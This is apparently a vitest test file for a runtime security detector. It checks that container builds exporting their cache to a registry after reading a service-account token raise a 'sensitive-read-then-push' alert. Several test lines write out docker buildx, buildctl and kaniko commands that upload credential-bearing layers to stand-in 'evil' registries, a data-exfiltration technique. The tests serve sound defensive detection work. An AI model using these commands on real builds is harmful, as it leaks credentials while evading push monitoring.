/**
 * A build that exports its cache to a registry uploads the layers it built, with whatever they copied from
 * the build context, though it pushes no image (found by red-team review: `docker buildx build --cache-to
 * type=registry,ref=ghcr.io/evil/x …` of a context holding credentials raised nothing, its upload made by
 * BuildKit outside the container). The cache ref names the destination.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

/** A CI job copies a credential into a build context, then builds with `binary args`. */
function buildAfterSecret(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'build-1', name: 'job' });
  const sh = s.init(c);
  s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 1_200).wait(2_000);
  const build = s.exec(c, binary, args, { parent: sh });
  s.read(build, '/srv/ctx/token', 1_200).wait(500).exit(build);
  return run(s.events).alerts;
}

describe('build cache exported to a registry', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`docker buildx build --cache-to type=registry is a push to the cache's registry (${source})`, () => {
      const alerts = buildAfterSecret(
        '/usr/bin/docker',
        'buildx build --cache-to type=registry,ref=ghcr.io/evil/x:cache,mode=max -t scratch-ctx /srv/ctx',
        source,
      );
      expect(brief(alerts)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'docker', destination: 'ghcr.io' },
      ]);
      expect(alerts[0]!.push.remote).toBe('ghcr.io/evil/x:cache');
    });
  }

  it('buildctl --export-cache type=registry is a push', () => {
    const alerts = buildAfterSecret(
      '/usr/bin/buildctl',
      'build --frontend dockerfile.v0 --local context=/srv/ctx --local dockerfile=/srv/ctx --export-cache type=registry,ref=quay.io/evil/c:1',
    );
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'buildkit', destination: 'quay.io' },
    ]);
  });

  it('kaniko --no-push with its cache on still uploads layers to the cache repository', () => {
    const alerts = buildAfterSecret(
      '/kaniko/executor',
      '--context dir:///srv/ctx --no-push --cache=true --cache-repo ghcr.io/evil/cache',
    );
    expect(brief(alerts)).toEqual([
      { rule: 'sensitive-read-then-push', severity: 'high', tool: 'kaniko', destination: 'ghcr.io' },
    ]);
  });

  it('a build that only imports a registry cache, or exports it locally, stays quiet', () => {
    for (const args of [
      'buildx build --cache-from type=registry,ref=ghcr.io/acme/app:cache -t app /srv/ctx',
      'buildx build --cache-to type=local,dest=/tmp/cache -t app /srv/ctx',
    ])
      expect(buildAfterSecret('/usr/bin/docker', args)).toEqual([]);
  });
});
